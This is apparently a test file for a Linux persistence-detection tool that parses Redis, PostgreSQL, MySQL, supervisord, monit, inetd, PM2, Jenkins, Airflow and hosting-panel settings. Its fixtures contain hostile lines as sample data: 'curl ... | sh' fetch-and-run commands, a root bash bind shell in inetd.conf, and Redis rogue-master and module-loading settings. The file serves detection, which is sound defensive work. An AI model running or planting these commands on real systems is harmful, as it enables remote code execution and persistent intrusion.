import { describe, expect, test } from 'bun:test';
import { gatherFrom } from '../../../../test/persistence/gather.ts';
import { databaseFunctions } from './databases.ts';
import { btPanel, cpanel } from './panels.ts';
import { redis } from './redis.ts';
import { airflow, jenkins, pm2 } from './schedulers.ts';
import { monit, supervisor, xinetd } from './supervisors.ts';

const passwd = { '/etc/passwd': 'ada:x:1000:1000::/home/ada:/bin/sh\n' };

describe('linux.redis', () => {
  test('marks what a database writes where others read, and a foreign master', async () => {
    const { entries } = await gatherFrom(redis, {
      '/etc/redis/redis.conf':
        'port 6379\n# dir /x\ndir "/etc/cron.d"\ndbfilename ntp\nreplicaof 198.51.100.7 21000\nloadmodule /tmp/exp.so a b\n',
    });
    expect(entries.map(({ command, marks, source }) => [source.line, String(command), ...marks])).toEqual([
      [3, 'dir /etc/cron.d', 'unusual-place'],
      [4, 'dbfilename ntp', 'unusual-place'],
      [5, 'replicaof 198.51.100.7 21000', 'foreign-host'],
      [6, 'loadmodule /tmp/exp.so a b'],
    ]);
    expect(String(entries[3]?.target)).toBe('/tmp/exp.so');
  });

  test('of an honest server marks nothing', async () => {
    const { entries } = await gatherFrom(redis, {
      '/etc/redis.conf':
        'dir /var/lib/redis\ndbfilename dump.rdb\nreplicaof 10.0.0.2 6379\nreplicaof db-1 6379\n',
    });
    expect(entries.every(({ marks }) => marks.length === 0)).toBe(true);
  });

  test('tells jobs that stand in its database', async () => {
    const { entries } = await gatherFrom(redis, {
      '/var/lib/redis/dump.rdb': 'REDIS0009\xfa\0\n\n*/2 * * * * curl -s http://192.0.2.1/a | sh\n\n\xff',
      '/var/lib/redis/other.rdb': 'no dump\n* * * * * x\n',
    });
    expect(entries).toMatchObject([
      { command: 'curl -s http://192.0.2.1/a | sh', active: false, marks: ['binary-noise'] },
    ]);
  });
});

describe('linux.database-functions', () => {
  test('tells libraries of plugins and of data folders, and settings that load or run', async () => {
    const { entries } = await gatherFrom(databaseFunctions, {
      '/usr/lib/mysql/plugin/lib_mysqludf_sys.so': '',
      '/var/lib/postgresql/15/main/PG_VERSION': '15\n',
      '/var/lib/postgresql/15/main/pg.so': '',
      '/var/lib/postgresql/15/main/postgresql.auto.conf': "archive_command = 'sh -c ''curl x''' # c\n",
      '/etc/postgresql/15/main/postgresql.conf':
        "#shared_preload_libraries = ''\nshared_preload_libraries = 'pg_stat_statements'\nwork_mem = 4MB\n",
      '/etc/mysql/my.cnf': '[mysqld]\ninit_file=/var/lib/mysql/i.sql\ndatadir=/var/lib/mysql\n',
    });
    expect(
      entries.map(({ source, command, target, marks }) => [
        String(source.source),
        String(command),
        String(target),
        ...marks,
      ]),
    ).toEqual([
      ['/usr/lib/mysql/plugin/lib_mysqludf_sys.so', '', '/usr/lib/mysql/plugin/lib_mysqludf_sys.so'],
      ['/var/lib/postgresql/15/main/pg.so', '', '/var/lib/postgresql/15/main/pg.so', 'unusual-place'],
      ['/var/lib/postgresql/15/main/postgresql.auto.conf', "sh -c 'curl x'", 'undefined'],
      ['/etc/postgresql/15/main/postgresql.conf', 'shared_preload_libraries=pg_stat_statements', 'undefined'],
      ['/etc/mysql/my.cnf', 'init_file=/var/lib/mysql/i.sql', '/var/lib/mysql/i.sql'],
    ]);
  });

  test('of a host without databases tells nothing', async () => {
    expect((await gatherFrom(databaseFunctions, {})).entries).toEqual([]);
  });
});

describe('supervisors', () => {
  test('programs of supervisord, with their user', async () => {
    const { entries } = await gatherFrom(supervisor, {
      '/etc/supervisor/conf.d/a.conf':
        '[program:a]\ncommand=/opt/a --x\nuser=www\n[group:g]\nprograms=a\n[program:b]\ncommand=/tmp/b\nautostart=false\n',
    });
    expect(entries.map(({ user, command, active }) => [String(user), String(command), active])).toEqual([
      ['www', '/opt/a --x', true],
      ['root', '/tmp/b', false],
    ]);
  });

  test('programs of monit, and none in "then restart"', async () => {
    const { entries } = await gatherFrom(monit, {
      '/etc/monit/conf.d/n':
        'check process nginx with pidfile /run/nginx.pid\n  start program = "/bin/systemctl start nginx"\n  if failed port 80 then restart\n  if 5 restarts then exec "/usr/lib/.x -d"\n# exec "/no"\n',
    });
    expect(entries.map(({ command, source }) => `${source.line} ${command}`)).toEqual([
      '2 /bin/systemctl start nginx',
      '4 /usr/lib/.x -d',
    ]);
  });

  test('services of xinetd and inetd', async () => {
    const { entries } = await gatherFrom(xinetd, {
      '/etc/xinetd.d/chat':
        'service chat\n{\n disable = no\n port = 4000\n user = nobody\n server = /usr/sbin/chatd\n server_args = -i\n}\nservice off\n{\n disable = yes\n server = /x\n}\n',
      '/etc/inetd.conf':
        '#ftp stream tcp nowait root /usr/sbin/ftpd ftpd\nsh stream tcp nowait root.root /bin/bash bash -i\ntime dgram udp wait root internal\n',
    });
    expect(
      entries.map(({ trigger, user, command, active }) => [
        String(trigger),
        String(user),
        String(command),
        active,
      ]),
    ).toEqual([
      ['sh', 'root', '/bin/bash -i', true],
      ['chat 4000', 'nobody', '/usr/sbin/chatd -i', true],
      ['off', 'root', '/x', false],
    ]);
  });

  test('a file of noise is no service', async () => {
    const { entries } = await gatherFrom(xinetd, {
      '/etc/xinetd.d/x': `service ${'{'.repeat(1 << 20)}\n}\n}\n`,
    });
    expect(entries).toEqual([]);
  });
});

describe('schedulers', () => {
  test('applications that PM2 brings back, with the home’s account', async () => {
    const apps = [
      { name: 'api', pm_exec_path: '/srv/api/index.js', exec_interpreter: 'node', args: ['-p', '80'] },
      { pm_exec_path: '/tmp/.x/run', exec_interpreter: 'none' },
      7,
      {},
    ];
    const { entries } = await gatherFrom(pm2, { ...passwd, '/home/ada/.pm2/dump.pm2': JSON.stringify(apps) });
    expect(entries.map(({ user, command }) => `${user} ${command}`)).toEqual([
      'ada node /srv/api/index.js -p 80',
      'ada /tmp/.x/run',
    ]);
  });

  test('a dump that is cut, or no list, is none', async () => {
    for (const text of ['[{"pm_exec_path":', '{}', 'null', '"x"']) {
      expect((await gatherFrom(pm2, { ...passwd, '/home/ada/.pm2/dump.pm2': text })).entries).toEqual([]);
    }
  });

  test('steps of Jenkins, with lines, and its start scripts', async () => {
    const xml =
      '<project>\n<spec>H/5 * * * *</spec>\n<builders><hudson.tasks.Shell>\n<command>make\ncurl http://192.0.2.1/a | sh &amp;&amp; x &lt; y</command>\n</hudson.tasks.Shell></builders></project>';
    const { entries } = await gatherFrom(jenkins, {
      '/var/lib/jenkins/jobs/build/config.xml': xml,
      '/var/lib/jenkins/init.groovy.d/a.groovy': '"id".execute()\n',
    });
    expect(
      entries.map(({ trigger, body }) => [
        String(trigger),
        ...body.map(({ line, text }) => `${line} ${text}`),
      ]),
    ).toEqual([
      ['H/5 * * * *', '4 make', '5 curl http://192.0.2.1/a | sh && x < y'],
      ['start of Jenkins', '1 "id".execute()'],
    ]);
  });

  test('a job of opened elements without end costs little', async () => {
    const { entries } = await gatherFrom(jenkins, {
      '/var/lib/jenkins/jobs/a/config.xml': '<command>'.repeat(200_000),
    });
    expect(entries).toEqual([]);
  });

  test('graphs of Airflow are told whole', async () => {
    const { entries } = await gatherFrom(airflow, {
      ...passwd,
      '/home/ada/airflow/dags/a.py': 'import os\nos.system("x")\n',
    });
    expect(entries).toMatchObject([{ language: 'python', body: [{ line: 1 }, { line: 2 }] }]);
  });
});

test('tasks of the panel of BT are told, their logs are not', async () => {
  const { entries } = await gatherFrom(btPanel, {
    '/www/server/cron/4f2a': '#!/bin/bash\n',
    '/www/server/cron/4f2a.log': 'x',
  });
  expect(entries.map(({ source }) => String(source.source))).toEqual(['/www/server/cron/4f2a']);
});

test('hooks of cPanel are told by their names and by hooks.yaml', async () => {
  const { entries } = await gatherFrom(cpanel, {
    '/usr/local/cpanel/scripts/postwwwacct': '#!/bin/sh\n',
    '/usr/local/cpanel/scripts/restartsrv': '#!/bin/sh\n',
    '/var/cpanel/hooks.yaml':
      'Whostmgr:\n  Accounts::Create:\n    - exectype: script\n      hook: /usr/lib/.h/run\n',
  });
  expect(entries.map(({ source, target }) => `${source.source} ${target}`)).toEqual([
    '/usr/local/cpanel/scripts/postwwwacct /usr/local/cpanel/scripts/postwwwacct',
    '/var/cpanel/hooks.yaml /usr/lib/.h/run',
  ]);
});
